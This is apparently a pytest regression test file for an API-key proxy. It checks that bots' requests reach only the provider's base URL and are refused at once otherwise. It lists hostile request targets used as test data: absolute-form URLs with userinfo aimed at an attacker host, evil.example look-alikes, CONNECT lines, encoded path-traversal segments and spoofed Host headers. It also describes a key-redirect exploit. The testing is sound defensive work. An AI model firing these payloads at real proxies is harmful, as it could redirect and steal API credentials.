"""Where the keyring sends a bot's request: only ever to the provider's own base URL.

Two halves. Over HTTP, a real ``botmaker keyring serve`` process on loopback with two
recording fake upstreams: the provider (where the real key belongs) and an attacker
(which must never see anything); hostile request lines travel over a raw socket,
since HTTP clients refuse to send them. The URL builder itself
(:mod:`botmaker.keyring.target`) is tested property-based in
``tests/unit/test_keyring_target.py``.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.support.fake_upstream import FakeUpstream
from tests.support.keyring import KeyringProcess
from tests.support.rawhttp import RawAnswer, exchange
from tests.support.waiting import wait_for

ANTHROPIC_KEY = "sk-ant-api03-REALtarget-0007ffff"
OPENAI_KEY = "sk-proj-REALtarget-0008gggggggg"
MESSAGE = json.dumps(
    {"model": "m", "max_tokens": 8, "messages": [{"role": "user", "content": "hi"}]}
)
#: Refusals must come at once: well under this many seconds.
PROMPT = 2.0


# -- the data plane over HTTP --------------------------------------------------------------


@dataclass(frozen=True)
class Plane:
    kr: KeyringProcess
    provider: FakeUpstream  # where the keys belong
    attacker: FakeUpstream  # must never be reached
    host: str
    port: int

    @property
    def address(self) -> str:
        return f"{self.host}:{self.port}"

    def send(
        self, line: str, token: str, *, host: str | None = None, body: str = MESSAGE
    ) -> RawAnswer:
        """``line`` (the request line, without CRLF) with the token in ``x-api-key``."""
        head = f"{line}\r\n"
        if host is not None:
            head += f"Host: {host}\r\n"
        head += (
            f"x-api-key: {token}\r\nanthropic-version: 2023-06-01\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
            "Connection: close\r\n\r\n"
        )
        return exchange(self.host, self.port, head.encode() + body.encode(), timeout=10)

    def new_bot(self, *providers: str) -> tuple[str, str]:
        bot_id = str(uuid.uuid4())
        token = self.kr.admin.put_bot(bot_id, providers=list(providers))
        assert token is not None
        return bot_id, token

    def upstream_saw(self) -> str:
        parts = []
        for fake in (self.provider, self.attacker):
            for seen in fake.requests:
                parts += [seen.path, seen.query, json.dumps(seen.headers)]
                parts.append(seen.body.decode("latin-1"))
        return "\n".join(parts)


@pytest.fixture(scope="module")
def plane(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Plane]:
    with (
        FakeUpstream() as provider,
        FakeUpstream() as attacker,
        KeyringProcess(tmp_path_factory.mktemp("keyring")) as kr,
    ):
        # a base URL without a path (as Anthropic's, DeepSeek's, Perplexity's) and one with
        kr.admin.set_upstream("anthropic", provider.url, allow_private=True)
        kr.admin.set_upstream("openai", provider.url + "/v1", allow_private=True)
        kr.admin.add_key("anthropic", ANTHROPIC_KEY)
        kr.admin.add_key("openai", OPENAI_KEY)
        url = urlsplit(kr.url)
        assert url.hostname
        assert url.port
        yield Plane(kr, provider, attacker, url.hostname, url.port)


@pytest.fixture(autouse=True)
def _forget(plane: Plane) -> None:
    plane.provider.clear()
    plane.attacker.clear()


def assert_refused_at_once(plane: Plane, answer: RawAnswer) -> None:
    assert answer.status == 400, answer.text
    assert answer.seconds < PROMPT, answer.seconds
    for secret in (ANTHROPIC_KEY, OPENAI_KEY):
        assert secret not in answer.text
    assert plane.provider.requests == []
    assert plane.attacker.requests == []


def test_an_absolute_form_line_cannot_send_the_key_to_another_host(plane: Plane) -> None:
    """The exploit: the old proxy cut ``len("/v1/anthropic")`` characters off the raw
    target, so ``http://abcdef@<attacker>/v1/anthropic/...`` left ``@<attacker>/...``
    to append to ``http://<provider>``: the attacker's host, the real key in its header."""
    _, token = plane.new_bot("anthropic")
    target = f"http://abcdef@127.0.0.1:{plane.attacker.port}/v1/anthropic/v1/messages"
    assert len("http://abcdef") == len("/v1/anthropic")
    answer = plane.send(f"POST {target} HTTP/1.1", token, host=plane.address)
    assert plane.attacker.requests == [], "the key went to the attacker"
    assert_refused_at_once(plane, answer)
    assert answer.json()["error"]["type"] == "bad_target"


HOSTILE_LINES = {
    "absolute-form to the provider": "POST http://127.0.0.1:{provider}/v1/anthropic/v1/messages",
    "absolute-form to a look-alike": "POST http://abcdef.evil.example/v1/anthropic/v1/messages",
    "absolute-form https": "POST https://api.anthropic.com/v1/anthropic/v1/messages",
    "absolute-form with userinfo": "POST http://x@127.0.0.1:{attacker}/v1/anthropic/v1/messages",
    "CONNECT": "CONNECT 127.0.0.1:{attacker} HTTP/1.1",
    "authority-form": "GET 127.0.0.1:{attacker}",
    "asterisk-form": "OPTIONS *",
    "network-path reference": "POST //127.0.0.1:{attacker}/v1/anthropic/v1/messages",
    "encoded provider name": "POST /v1/anthropi%63/v1/messages",
    "encoded provider name (openai)": "POST /v1/opena%69/chat/completions",
    "encoded slash after the provider": "POST /v1/anthropic%2Fv1/messages",
    "encoded slashes and dots": "POST /v1/anthropic/..%2F..%2F..%2Fv1/messages",
    "encoded slash": "POST /v1/anthropic/v1%2fmessages",
    "encoded dot segment": "POST /v1/anthropic/%2e%2e/v1/messages",
    "half-encoded dot segment": "POST /v1/anthropic/.%2E/v1/messages",
    "dot segment": "POST /v1/anthropic/v1/../v1/messages",
    "single dot segment": "POST /v1/anthropic/./v1/messages",
    "dot segment with a parameter": "POST /v1/anthropic/..;/v1/messages",
    "backslash": "POST /v1/anthropic/v1\\messages",
    "backslash dot segments": "POST /v1/anthropic\\..\\..\\v1/messages",
    "encoded backslash": "POST /v1/anthropic/v1%5Cmessages",
    "broken escape": "POST /v1/anthropic/v1/%zzmessages",
    "fragment": "POST /v1/anthropic/v1/messages#@127.0.0.1:{attacker}",
}


@pytest.mark.parametrize("name", list(HOSTILE_LINES))
def test_hostile_request_targets_get_a_400_at_once(plane: Plane, name: str) -> None:
    _, token = plane.new_bot("anthropic", "openai")
    line = HOSTILE_LINES[name].format(provider=plane.provider.port, attacker=plane.attacker.port)
    if not line.endswith("HTTP/1.1"):
        line += " HTTP/1.1"
    answer = plane.send(line, token, host=plane.address)
    assert_refused_at_once(plane, answer)


@pytest.mark.parametrize(
    "host",
    [None, "evil.example", "127.0.0.1:1", "{address}.evil.example", "{address}@evil.example", ""],
    ids=["missing", "other-name", "other-port", "suffix", "userinfo", "empty"],
)
def test_a_host_header_that_is_not_the_data_planes_is_refused(
    plane: Plane, host: str | None
) -> None:
    _, token = plane.new_bot("anthropic")
    value = None if host is None else host.format(address=plane.address)
    version = "HTTP/1.0" if value is None else "HTTP/1.1"  # 1.1 without Host: aiohttp's own 400
    answer = plane.send(f"POST /v1/anthropic/v1/messages {version}", token, host=value)
    assert_refused_at_once(plane, answer)


@pytest.mark.parametrize("host", ["{address}", "{host}", "localhost:{port}", "LocalHost:{port}"])
def test_the_data_planes_own_addresses_are_accepted(plane: Plane, host: str) -> None:
    _, token = plane.new_bot("anthropic")
    value = host.format(address=plane.address, host=plane.host, port=plane.port)
    answer = plane.send("POST /v1/anthropic/v1/messages HTTP/1.1", token, host=value)
    assert answer.status == 200, answer.text
    (seen,) = plane.provider.requests
    assert seen.key == ANTHROPIC_KEY
    assert seen.path == "/v1/messages"


def test_a_name_bots_are_given_is_accepted_only_when_configured(tmp_path: Path) -> None:
    """An external keyring that bots reach by a DNS name (``http://keyring:7180``) checks
    ``Host`` against BOTMAKER_KEYRING_HOSTS: that name passes, look-alikes do not."""
    with (
        FakeUpstream() as provider,
        KeyringProcess(tmp_path, BOTMAKER_KEYRING_HOSTS="keyring") as kr,
    ):
        kr.admin.set_upstream("anthropic", provider.url, allow_private=True)
        kr.admin.add_key("anthropic", ANTHROPIC_KEY)
        url = urlsplit(kr.url)
        assert url.hostname
        assert url.port
        named = Plane(kr, provider, provider, url.hostname, url.port)
        _, token = named.new_bot("anthropic")
        line = "POST /v1/anthropic/v1/messages HTTP/1.1"
        for host in (f"keyring:{url.port}", "KEYRING", f"{named.address}"):
            answer = named.send(line, token, host=host)
            assert answer.status == 200, (host, answer.text)
        for host in ("keyring.evil.example", f"keyring:{url.port + 1}", "keyringx"):
            answer = named.send(line, token, host=host)
            assert answer.status == 400, (host, answer.text)
        assert len(provider.requests) == 3


def test_a_refusal_is_counted_for_the_bot(plane: Plane) -> None:
    bot_id, token = plane.new_bot("anthropic")
    for line in ("POST http://evil.example/v1/anthropic/v1/messages", "POST /v1/anthropi%63/x"):
        assert_refused_at_once(plane, plane.send(f"{line} HTTP/1.1", token, host=plane.address))

    def counted() -> dict[str, int] | None:
        today: dict[str, int] = plane.kr.admin.usage(days=1)["bots"][bot_id]["today"]
        return today if today["rejected"] == 2 else None

    today = wait_for(counted, timeout=5)
    assert today["requests"] == 0


def test_ordinary_paths_and_queries_still_travel_unchanged(plane: Plane) -> None:
    _, token = plane.new_bot("openai")
    target = "/v1/openai/echo/a%20b/%C3%A9/x:y@z/m-1_2~3.json/;p=1/%25?x=1&y=%20z%26&e=&q=a/b?c"
    answer = plane.send(f"POST {target} HTTP/1.1", token, host=plane.address)
    assert answer.status == 200, answer.text
    (seen,) = plane.provider.requests
    assert seen.path == "/v1/echo/a%20b/%C3%A9/x:y@z/m-1_2~3.json/;p=1/%25"
    assert seen.query == "x=1&y=%20z%26&e=&q=a/b?c"
    assert token not in plane.upstream_saw()


def test_a_malformed_request_is_logged_in_one_line_without_its_content(tmp_path: Path) -> None:
    """aiohttp's parser errors quote the offending line: an oversized token header put the
    bot's token into the keyring's log, with a traceback per request."""
    with KeyringProcess(tmp_path) as kr:
        token = kr.admin.put_bot(str(uuid.uuid4()), providers=["openai"])
        assert token is not None
        url = urlsplit(kr.url)
        assert url.hostname
        assert url.port
        for extra in (
            f"x-api-key: {token}{'x' * 9000}",
            f"Authorization: Bearer {token}\r\nTransfer-Encoding: chunked\r\nContent-Length: 3",
        ):
            head = f"POST /v1/openai/x HTTP/1.1\r\nHost: {url.netloc}\r\n{extra}\r\n\r\n"
            assert exchange(url.hostname, url.port, head.encode()).status == 400
        log = kr.stop()
    _, _, secret = token.split("_", 2)
    assert secret[:12] not in log
    assert "Traceback" not in log
    assert log.count("malformed request") == 2, log
